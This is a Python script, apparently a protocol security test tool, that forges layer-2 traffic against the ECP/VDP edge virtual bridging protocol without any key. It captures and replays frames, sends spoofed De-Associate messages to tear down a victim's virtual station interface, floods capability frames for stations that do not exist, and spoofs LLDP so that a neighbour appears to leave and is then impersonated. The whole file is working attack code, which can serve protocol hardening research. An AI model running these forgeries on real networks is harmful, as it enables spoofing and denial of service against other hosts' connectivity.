# SPDX-License-Identifier: Apache-2.0
"""What somebody on the wire can do to ECP without a key.

  forge.py record IF SOURCE FILE READY_FILE   ECP frames of SOURCE that arrive, a line of hexadecimal digits each, until ended
  forge.py replay IF FILE                     all of them again; says how many
  forge.py deassociate IF SOURCE VSI COUNT    plain De-Associates of the whole VSI, in SOURCE's name
  forge.py hellos IF COUNT                    capabilities of as many stations that do not exist
  forge.py usurp IF NEIGHBOUR SOURCE TTL EVB  LLDP: goodbye in the neighbour's name and, before it speaks again, one of SOURCE
                                              with the EVB TLV's five octets
"""
import random
import socket
import struct
import sys
import uuid

ETHERTYPE = 0x8940
GROUP = bytes.fromhex("0180c2000000")
BODY = struct.pack("!H", 4 << 9 | 25)  # De-Associate, no filter information
HEAD = bytes.fromhex("1001")


def wire_of(interface, ethertype=0):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ethertype))
    wire.bind((interface, ethertype))
    return wire


def record(interface, source, file, ready_file):
    wire = wire_of(interface, ETHERTYPE)
    wanted = bytes.fromhex(source.replace(":", ""))
    with open(file, "w", encoding="ascii") as out:
        with open(ready_file, "w", encoding="ascii"):
            pass
        while True:
            frame, address = wire.recvfrom(2048)
            if address[2] != socket.PACKET_OUTGOING and frame[6:12] == wanted:
                print(frame.hex(), file=out, flush=True)


def replay(interface, file):
    wire = wire_of(interface)
    with open(file, encoding="ascii") as lines:
        frames = [bytes.fromhex(line) for line in lines.read().split()]
    for frame in frames:
        wire.send(frame)
    print(len(frames))


def deassociate(interface, source, vsi, count):
    wire = wire_of(interface)
    value = bytes([0]) + (1).to_bytes(3, "big") + bytes([1, 5]) + uuid.UUID(vsi).bytes + bytes([4]) + bytes(2)
    vdpdu = bytes.fromhex("0a10") + bytes(16) + BODY + value + bytes(2)
    for _ in range(int(count)):
        sequence = struct.pack("!H", random.randrange(1 << 16))
        frame = GROUP + bytes.fromhex(source.replace(":", "")) + struct.pack("!H", ETHERTYPE) + HEAD + sequence + vdpdu
        wire.send(frame)


def hellos(interface, count):
    wire = wire_of(interface)
    for number in range(int(count)):
        name = number.to_bytes(16, "big")
        value = bytes.fromhex("02534e010201000001ff") + name + bytes(8) + name + bytes.fromhex("688014") + bytes(9)
        vdpdu = bytes.fromhex("0a10") + bytes(16) + struct.pack("!H", 127 << 9 | len(value)) + value + bytes(2)
        source = bytes([2, 0xF0]) + number.to_bytes(4, "big")
        wire.send(GROUP + source + struct.pack("!H", ETHERTYPE) + HEAD + struct.pack("!H", number & 0xFFFF) + vdpdu)


def usurp(interface, neighbour, source, ttl, evb):
    lldp(interface, neighbour, 0)
    lldp(interface, source, ttl, evb)


def lldp(interface, source, ttl, evb=""):
    mac = bytes.fromhex(source.replace(":", ""))

    def tlv(kind, value):
        return struct.pack("!H", kind << 9 | len(value)) + value

    names = tlv(1, b"\x04" + mac) + tlv(2, b"\x05up0") + tlv(3, struct.pack("!H", int(ttl)))
    ours = tlv(127, bytes.fromhex("0080c20d" + evb)) if evb else b""
    wire_of(interface).send((GROUP + mac + bytes.fromhex("88cc") + names + ours + bytes(2)).ljust(60, b"\0"))


{"record": record, "replay": replay, "deassociate": deassociate, "hellos": hellos, "usurp": usurp}[sys.argv[1]](*sys.argv[2:])
